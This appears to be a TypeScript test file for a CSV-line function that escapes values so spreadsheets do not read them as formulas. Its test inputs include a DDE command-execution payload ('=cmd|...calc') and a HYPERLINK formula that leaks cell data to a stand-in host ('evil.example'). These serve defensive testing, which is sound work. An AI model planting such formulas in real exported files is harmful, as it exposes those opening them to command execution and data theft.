import { csvParseRows } from 'd3-dsv'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { toCsvLine } from './to-csv-line.ts'

const toCellText = (text: string) => csvParseRows(toCsvLine([text, 'end']))[0]?.[0]

test.for([
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\ttab',
  '\rreturn',
  '\nline',
  ' =1+1',
  '"=1+1',
  `'=1+1`,
  ` "' =cmd|'/C calc'!A0`,
  '\u00a0=1',
  '\ufeff=1',
  '＝1+1',
  '＋1',
  '－1+x',
  '＠x',
  '=HYPERLINK("https://evil.example?"&A1,"Prize")',
  '-5 stars',
  '+34 600 000 000',
])('keeps %j a text', (text) => {
  expect(toCellText(text)).toBe(`'${text}`)
})

test.for(['-5', '-0.5', '12', 'Great = great', 'me@example.com', 'a-b', '5+5', '', "It's fine", 'Bueno, bonito', '¡Olé!'])(
  'leaves %j as it is',
  (text) => {
    expect(toCellText(text)).toBe(text)
  },
)

test('guards what becomes a cell of its own where lists are separated by semicolons', () => {
  expect(toCellText('a;=1+1')).toBe("a;'=1+1")
  expect(toCellText('a\n=1+1')).toBe("a\n'=1+1")
  expect(toCellText('\n=1+1')).toBe("'\n'=1+1")
  expect(toCellText('a; "=1+1')).toBe('a;\' "=1+1')
  expect(toCellText('a; b')).toBe('a; b')
})

test('is one record whatever is in it, and gives the text back', () => {
  const character = fc.oneof(
    fc.constantFrom('"', ',', ';', '\r', '\n', '\t', ' ', '=', '-', '🍵'),
    fc.integer({ min: 1, max: 0xd7ff }).map((code) => String.fromCodePoint(code)),
  )
  fc.assert(
    fc.property(fc.array(fc.string({ unit: character, maxLength: 20 }), { minLength: 2, maxLength: 6 }), (cells) => {
      const line = toCsvLine(cells)
      expect(line.endsWith('\r\n')).toBe(true)
      const rows = csvParseRows(line)
      expect(rows).toHaveLength(1)
      expect(rows[0]?.map((cell) => cell.replaceAll("'", ''))).toEqual(cells.map((cell) => cell.replaceAll("'", '')))
    }),
    { seed: 4180, numRuns: 500 },
  )
})

test('lets no text begin like a formula', () => {
  const dangerous = fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' ', '"', "'", ';', '\n', '1', 'a', '.', '＝')
  fc.assert(
    fc.property(fc.string({ unit: dangerous, minLength: 1, maxLength: 12 }), (text) => {
      const cell = toCellText(text) ?? ''
      if (/^-?\d+(\.\d+)?$/.test(cell)) return
      expect(cell).not.toMatch(/^[\s"]*[=+\-@＝]|^[\t\r\n]/)
      for (const part of cell.split(/[;\r\n]/).slice(1)) expect(part).not.toMatch(/^[ "]*[=+\-@＝]/)
    }),
    { seed: 4, numRuns: 2000 },
  )
})

test('leaves nothing empty but what is nothing', () => {
  expect(toCsvLine([null, 0, -3, '0'])).toBe(',0,-3,0\r\n')
})
